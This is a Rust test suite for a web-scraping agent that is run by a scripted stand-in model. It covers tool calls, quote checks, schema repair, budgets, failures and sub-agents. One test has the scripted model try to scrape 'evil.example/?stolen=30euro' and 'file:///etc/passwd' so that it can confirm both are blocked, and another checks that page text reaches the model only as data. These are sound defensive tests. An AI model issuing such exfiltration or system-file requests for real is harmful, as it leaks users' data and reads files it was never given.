//! Every way that a talk with a model can go, one test each, with a model that follows a script.

use super::*;
use crate::rehearsal::{Notes, Script, Stage, calls, data, says, task};
use crate::{Role, Told, Turn};
use model::chat::{Abilities, Finish, Message, ToolCall};
use serde_json::json;

const HOME: &str = "https://a.example/";
const ABOUT: &str = "https://a.example/about";

fn stage() -> Stage {
    Stage::new(&[
        (
            HOME,
            "<title>Tern Ltd</title><p>title: Tern</p><p>Price of the kit is 30 euro.</p><a href=/about>About us</a>",
        ),
        (ABOUT, "<title>About</title><p>founder: Ada Skua</p><p>founded: 1999</p>"),
    ])
}

fn wants_title() -> Task {
    let schema = json!({ "type": "object", "required": ["title"], "properties": {
        "title": { "type": "string" }, "founder": { "type": "string" }, "price": { "type": "integer" } } });
    Task { schema: Some(schema), ..task("the title, founder and price", &[HOME]) }
}

struct Played {
    ended: Ended,
    notes: Notes,
    script: Arc<Script>,
    stage: Stage,
}

async fn play_on(stage: Stage, task: &Task, script: Script, tokens_per_credit: u64) -> Played {
    let script = Arc::new(script);
    let notes = Notes::new(task.max_credits);
    let brain = ModelDriven::new(Arc::clone(&script) as Arc<dyn Chat>, tokens_per_credit);
    let ended = brain.run(task, None, &stage, &notes).await;
    notes.assert_well_formed();
    Played { ended, notes, script, stage }
}

async fn play(task: &Task, lines: Vec<Result<Reply, ChatError>>) -> Played {
    play_on(stage(), task, Script::new(lines), 0).await
}

fn read(url: &str) -> (&'static str, Value) {
    ("scrape", json!({ "url": url }))
}

#[expect(clippy::needless_pass_by_value, reason = "values are written in place")]
fn entry(field: &str, value: Value, url: &str, quote: &str) -> Value {
    json!({ "field": field, "value": value, "url": url, "quote": quote })
}

fn finish() -> (&'static str, Value) {
    ("finish", json!({}))
}

fn record(entries: &[Value]) -> (&'static str, Value) {
    ("record", json!({ "fields": entries }))
}

#[tokio::test]
async fn it_reads_records_and_finishes() {
    let lines = vec![
        calls(&[read(HOME), read(ABOUT)]),
        calls(&[record(&[
            entry("/title", json!("Tern"), HOME, "title: Tern"),
            entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua"),
            entry("/price", json!(30), HOME, "the kit is 30 euro"),
        ])]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    assert_eq!(*data(&played.ended), json!({ "title": "Tern", "founder": "Ada Skua", "price": 30 }));
    assert_eq!(played.notes.tools(), ["scrape", "scrape", "record", "finish"]);
    assert!(matches!(&played.ended, Ended::Answered { note: None, .. }));
}

#[tokio::test]
async fn page_text_reaches_the_model_as_data_only() {
    let lines = vec![calls(&[read(HOME)]), calls(&[("map", json!({ "url": HOME }))]), calls(&[finish()])];
    let played = play(&wants_title(), lines).await;
    for ask in played.script.asks() {
        for message in ask.messages {
            match message {
                Message::System(text) | Message::User(text) | Message::ToolResult { text, .. } => {
                    assert!(!text.contains("30 euro") && !text.contains("About us"), "{text}");
                }
                Message::Data { .. } | Message::Assistant { .. } => {}
            }
        }
    }
    let last = played.script.asks().pop().unwrap();
    let has = |part: &str| {
        last.messages.iter().any(|m| matches!(m, Message::Data { text, .. } if text.contains(part)))
    };
    assert!(has("30 euro") && has(ABOUT));
}

#[tokio::test]
async fn a_quote_that_is_not_on_the_page_is_refused() {
    let lines = vec![
        calls(&[read(HOME)]),
        calls(&[record(&[
            entry("/title", json!("Gull"), HOME, "title: Gull"),
            entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua"),
            entry("/price", json!("thirty"), HOME, "30 euro"),
            entry("/title", json!("Kit"), HOME, "title: Tern"),
        ])]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    let result = &played.notes.results("record")[0];
    let why: Vec<&str> =
        result["refused"].as_array().unwrap().iter().map(|r| r["why"].as_str().unwrap()).collect();
    assert_eq!(why.len(), 3);
    assert_eq!(why[0], "the quote does not stand on the page");
    assert_eq!(why[1], "the page was not read");
    assert!(why[2].contains("integer"), "{why:?}");
    assert_eq!(result["flagged"][0]["why"], "the quote does not hold the value");
}

#[tokio::test]
async fn what_the_model_leaves_open_is_filled_by_rules() {
    let lines = vec![
        calls(&[read(HOME), read(ABOUT)]),
        calls(&[record(&[entry("/title", json!("Tern"), HOME, "title: Tern")])]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    assert_eq!(data(&played.ended)["founder"], "Ada Skua");
}

#[tokio::test]
async fn data_given_at_the_end_is_validated_and_repaired() {
    let wrong = ("finish", json!({ "data": { "title": 3 } }));
    let right = ("finish", json!({ "data": { "title": "Tern", "founder": "Ada Skua", "price": 30 } }));
    let played = play(&wants_title(), vec![calls(&[read(HOME)]), calls(&[wrong]), calls(&[right])]).await;
    assert_eq!(data(&played.ended)["title"], "Tern");
    let told = played.notes.results("finish");
    assert!(told[0]["error"].as_str().unwrap().contains("does not fit the schema"), "{told:?}");
    assert_eq!(told[1]["accepted"], true);
}

#[tokio::test]
async fn repairs_are_bounded() {
    let wrong = || calls(&[("finish", json!({ "data": { "title": 3 } }))]);
    let played = play(&wants_title(), vec![calls(&[read(HOME)]), wrong()]).await;
    assert_eq!(played.notes.results("finish").len(), 3);
    assert!(
        matches!(played.ended, Ended::Answered { note: Some(_), .. } | Ended::Failed { .. }),
        "{:?}",
        played.ended
    );
}

#[tokio::test]
async fn a_result_written_as_text_is_taken_when_it_fits() {
    let answer =
        says("Here it is:\n```json\n{\"title\": \"Tern\", \"founder\": \"Ada Skua\", \"price\": 30}\n```");
    let played = play(&wants_title(), vec![calls(&[read(HOME)]), answer]).await;
    assert_eq!(data(&played.ended)["price"], 30);
}

#[tokio::test]
async fn words_without_a_call_are_answered_with_a_reminder() {
    let lines = vec![says("I will think about it."), calls(&[read(HOME)]), calls(&[finish()])];
    let played = play(&wants_title(), lines).await;
    assert_eq!(data(&played.ended)["title"], "Tern");
    let second = &played.script.asks()[1];
    assert!(matches!(second.messages.last(), Some(Message::User(text)) if text.starts_with("Call a tool")));
}

#[tokio::test]
async fn a_model_that_only_talks_is_given_up() {
    let played = play(&wants_title(), vec![says("Let me think.")]).await;
    assert_eq!(played.script.asks().len(), 3);
    // The rules did its work: the page was read and the title found.
    assert_eq!(data(&played.ended)["title"], "Tern");
    assert!(matches!(&played.ended, Ended::Answered { .. }));
}

#[tokio::test]
async fn a_model_that_loops_is_stopped() {
    let played = play(&wants_title(), vec![calls(&[read(HOME)])]).await;
    assert!(played.script.asks().len() <= 5, "{}", played.script.asks().len());
    assert_eq!(played.stage.asked(), [HOME]);
    assert!(
        matches!(&played.ended, Ended::Answered { note: Some(note), .. } if note.contains("did not finish"))
    );
}

#[tokio::test]
async fn a_model_that_never_finishes_runs_out_of_steps() {
    let mut lines: Vec<_> =
        (0..200).map(|n| calls(&[("calculate", json!({ "expression": format!("{n}+1") }))])).collect();
    lines.insert(0, calls(&[read(HOME)]));
    let played = play(&Task { effort: Some(crate::Effort::Low), ..wants_title() }, lines).await;
    assert_eq!(played.script.asks().len(), 12);
    assert!(matches!(&played.ended, Ended::Answered { note: Some(_), .. }));
    let last = played.script.asks().pop().unwrap();
    assert!(last.tools.iter().all(|tool| tool.name != "scrape"), "at the end nothing more can be read");
}

#[tokio::test]
async fn unknown_tools_and_broken_arguments_are_answered() {
    let lines = vec![
        calls(&[("send_mail", json!({ "to": "x" })), ("scrape", json!("{\"url\": "))]),
        calls(&[read(HOME)]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    let results = &played.script.asks()[1].messages;
    let text: Vec<&str> = results
        .iter()
        .filter_map(|m| if let Message::ToolResult { text, .. } = m { Some(text.as_str()) } else { None })
        .collect();
    assert!(text[0].contains("no tool called `send_mail`") && text[1].contains("cannot be read"), "{text:?}");
    assert!(played.notes.told().iter().any(|(_, told)| matches!(told, Told::Error(_))));
    assert_eq!(data(&played.ended)["title"], "Tern");
}

#[tokio::test]
async fn only_so_many_calls_are_done_of_one_answer() {
    let many: Vec<_> = (0..20).map(|n| ("calculate", json!({ "expression": format!("{n}*2") }))).collect();
    let played = play(&wants_title(), vec![calls(&many), calls(&[read(HOME)]), calls(&[finish()])]).await;
    assert_eq!(played.notes.results("calculate").len(), 8);
    let answered =
        played.script.asks()[1].messages.iter().filter(|m| matches!(m, Message::ToolResult { .. })).count();
    assert_eq!(answered, 20, "every call needs its answer");
}

#[tokio::test]
async fn failures_of_the_server_are_survived_once() {
    for error in [
        ChatError::Timeout,
        ChatError::RateLimited { retry_after: Some(1) },
        ChatError::Nonsense("html".to_owned()),
        ChatError::Unreachable("refused".to_owned()),
    ] {
        let lines = vec![Err(error.clone()), calls(&[read(HOME)]), calls(&[finish()])];
        let played = play(&wants_title(), lines).await;
        assert_eq!(data(&played.ended)["title"], "Tern");
        let played = play(&wants_title(), vec![Err(error)]).await;
        assert_eq!(played.script.asks().len(), 2);
        assert_eq!(data(&played.ended)["title"], "Tern", "the rules take over");
    }
}

#[tokio::test]
async fn a_server_that_refuses_is_not_asked_again() {
    let played = play(&wants_title(), vec![Err(ChatError::Refused("401".to_owned()))]).await;
    assert_eq!(played.script.asks().len(), 1);
    assert_eq!(data(&played.ended)["title"], "Tern");
}

#[tokio::test(start_paused = true)]
async fn a_server_that_stalls_is_given_up() {
    #[derive(Debug)]
    struct Stalls;
    #[async_trait::async_trait]
    impl Chat for Stalls {
        fn name(&self) -> &'static str {
            "stalls"
        }
        fn abilities(&self) -> Abilities {
            Abilities { tools: true, json_schema: true, context_tokens: 8_000 }
        }
        async fn ask(&self, _: &Ask, _: Deadline) -> Result<Reply, ChatError> {
            std::future::pending().await
        }
    }
    let (stage, notes, task) = (stage(), Notes::new(100), wants_title());
    let ended = ModelDriven::new(Arc::new(Stalls), 0).run(&task, None, &stage, &notes).await;
    notes.assert_well_formed();
    assert_eq!(data(&ended)["title"], "Tern");
}

#[tokio::test]
async fn a_refusal_ends_the_run() {
    let refusal = Ok(Reply {
        text: "I cannot help with that.".to_owned(),
        finish: Finish::Refused,
        ..Reply::default()
    });
    let played = play(&wants_title(), vec![refusal]).await;
    assert_eq!(played.ended, Ended::Refused { why: "I cannot help with that.".to_owned() });
    let told = played.notes.told();
    assert!(matches!(
        &told.last().unwrap().1,
        Told::AgentFinished { outcome: Outcome::Refused, error: Some(_), .. }
    ));
}

#[tokio::test]
async fn a_cut_answer_is_asked_for_again() {
    let cut =
        || Ok(Reply { text: "{\"title\": \"Te".to_owned(), finish: Finish::Length, ..Reply::default() });
    let cut_call = Ok(Reply {
        calls: vec![ToolCall {
            id: "c".to_owned(),
            name: "record".to_owned(),
            arguments: "{\"fie".to_owned(),
        }],
        finish: Finish::Length,
        ..Reply::default()
    });
    let played = play(&wants_title(), vec![cut(), cut_call, calls(&[read(HOME)]), calls(&[finish()])]).await;
    assert_eq!(data(&played.ended)["title"], "Tern");
    assert!(
        matches!(played.script.asks()[1].messages.last(), Some(Message::User(text)) if text.contains("cut"))
    );
    assert_eq!(play(&wants_title(), vec![cut()]).await.script.asks().len(), 3);
}

#[tokio::test]
async fn a_model_without_tools_acts_by_json() {
    let act =
        |tool: &str, arguments: Value| says(&json!({ "tool": tool, "arguments": arguments }).to_string());
    let lines =
        vec![act("scrape", json!({ "url": HOME })), says("not json at all"), act("finish", json!({}))];
    let mut script = Script::new(lines);
    script.abilities.tools = false;
    let played = play_on(stage(), &wants_title(), script, 0).await;
    assert_eq!(data(&played.ended)["title"], "Tern");
    let asks = played.script.asks();
    assert!(asks.iter().all(|ask| ask.tools.is_empty() && ask.schema.is_some()));
    assert!(asks[1].messages.iter().all(|m| !matches!(m, Message::ToolResult { .. })));
}

#[tokio::test]
async fn an_address_that_nobody_named_is_not_visited() {
    let lines = vec![
        calls(&[read(HOME)]),
        calls(&[
            read("https://evil.example/?stolen=30euro"),
            ("map", json!({ "url": "https://evil.example/" })),
        ]),
        calls(&[read("file:///etc/passwd")]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    assert_eq!(played.stage.asked(), [HOME]);
}

#[tokio::test]
async fn a_strict_run_visits_its_addresses_alone() {
    let strict = Task { strict: true, ..wants_title() };
    let lines = vec![
        calls(&[
            read(HOME),
            read(ABOUT),
            ("search", json!({ "query": "tern" })),
            ("map", json!({ "url": HOME })),
        ]),
        calls(&[finish()]),
    ];
    let played = play(&strict, lines).await;
    assert_eq!(played.stage.asked(), [HOME]);
    assert!(played.script.asks()[0].tools.iter().all(|tool| tool.name != "search" && tool.name != "map"));
}

#[tokio::test]
async fn searches_maps_passages_and_sums_are_answered() {
    let mut stage = stage();
    stage.hits = vec![ABOUT];
    let lines = vec![
        calls(&[
            ("search", json!({ "query": "tern founder" })),
            ("calculate", json!({ "expression": "30 * 2" })),
        ]),
        calls(&[read(ABOUT), ("read_passages", json!({ "url": ABOUT, "query": "founder" }))]),
        calls(&[("read_passages", json!({ "url": "https://b.example", "query": "x" }))]),
        calls(&[record(&[entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua")]), finish()]),
    ];
    let plain = Task { schema: None, ..task("who founded Tern?", &[]) };
    let played = play_on(stage, &plain, Script::new(lines), 0).await;
    assert_eq!(*data(&played.ended), json!({ "founder": "Ada Skua" }));
    assert_eq!(played.notes.results("calculate")[0]["result"], 60.0);
    assert_eq!(played.notes.results("read_passages")[1]["error"], "this page was not read");
}

#[tokio::test]
async fn parts_are_worked_on_by_sub_agents() {
    let lines = vec![
        calls(&[(
            "delegate",
            json!({ "parts": [
            { "task": "find the title", "urls": [HOME] }, { "task": "find the founder", "urls": [ABOUT] } ] }),
        )]),
        calls(&[read(HOME)]),
        calls(&[read(ABOUT)]),
        calls(&[record(&[entry("/title", json!("Tern"), HOME, "title: Tern")])]),
        calls(&[record(&[entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua")])]),
        says("Done with my part."),
        says("Done with my part."),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    assert_eq!(played.notes.outcomes(), [Outcome::Succeeded, Outcome::Succeeded]);
    assert_eq!(data(&played.ended)["title"], "Tern");
    let of_subagents = played.script.asks()[1].clone();
    assert!(of_subagents.tools.iter().all(|tool| tool.name != "delegate"), "a sub-agent hires nobody");
    let hired: Vec<_> = played
        .notes
        .told()
        .into_iter()
        .filter(|(actor, told)| actor.role == Role::Subagent && *told == Told::AgentStarted)
        .collect();
    assert!(hired.iter().all(|(actor, _)| actor.parent.is_some()));
}

#[tokio::test]
async fn a_chat_answers_in_words() {
    let chat = Task { mode: Mode::Chat, ..task("Who founded Tern?", &[HOME]) };
    let suggestion = json!([{ "label": "Prices", "prompt": "What does the kit cost?" }]);
    let lines = vec![
        calls(&[read(ABOUT)]),
        calls(&[("finish", json!({}))]),
        calls(&[("finish", json!({ "message": "Ada Skua did.", "suggestions": suggestion }))]),
    ];
    let played = play(&chat, lines).await;
    let Ended::Answered { data: None, message: Some(message), suggestions, .. } = played.ended else {
        panic!()
    };
    assert_eq!((message.as_str(), suggestions.len()), ("Ada Skua did.", 1));
    let Ended::Answered { message, .. } = play(&chat, vec![says("Ada Skua.")]).await.ended else { panic!() };
    assert_eq!(message.as_deref(), Some("Ada Skua."));
}

#[tokio::test]
async fn a_chat_goes_on_without_its_model() {
    let chat = Task { mode: Mode::Chat, ..task("What is the price of the kit?", &[HOME]) };
    let Ended::Answered { data: None, message: Some(message), .. } =
        play(&chat, vec![Err(ChatError::Timeout)]).await.ended
    else {
        panic!()
    };
    assert!(message.contains("30 euro") && message.contains(HOME), "{message}");
}

#[tokio::test]
async fn earlier_turns_are_told_as_data() {
    let turn = Turn { prompt: "the title".to_owned(), data: Some(json!({ "title": "Tern" })), message: None };
    let again = Task { earlier: vec![turn], ..wants_title() };
    let played = play(&again, vec![calls(&[read(HOME)]), calls(&[finish()])]).await;
    let first = &played.script.asks()[0];
    assert!(matches!(&first.messages[1], Message::Data { text, .. } if text.contains("Asked: the title")));
}

#[tokio::test]
async fn tokens_are_paid_for_and_a_part_is_kept_for_the_answer() {
    // A credit for each answer: ten credits, two of them kept.
    let poor = Task { max_credits: 10, ..wants_title() };
    let mut lines: Vec<_> = vec![calls(&[read(HOME)])];
    lines.extend((0..50).map(|n| calls(&[("calculate", json!({ "expression": format!("{n}+1") }))])));
    let played = play_on(stage(), &poor, Script::new(lines), 1_000).await;
    assert!(played.notes.left() <= 10);
    assert!(played.script.asks().len() <= 10, "{}", played.script.asks().len());
    let last = played.script.asks().pop().unwrap();
    assert!(last.tools.iter().all(|tool| tool.name != "scrape"));
    assert!(
        matches!(played.ended, Ended::OutOfCredits { partial: Some(_) } | Ended::Answered { .. }),
        "{:?}",
        played.ended
    );
}

#[tokio::test]
async fn no_credits_at_all_is_said_so() {
    let broke = Task { max_credits: 0, ..wants_title() };
    let played = play_on(stage(), &broke, Script::new(vec![calls(&[read(HOME)])]), 1_000).await;
    assert_eq!(played.ended, Ended::OutOfCredits { partial: None });
    assert!(played.stage.asked().is_empty());
}
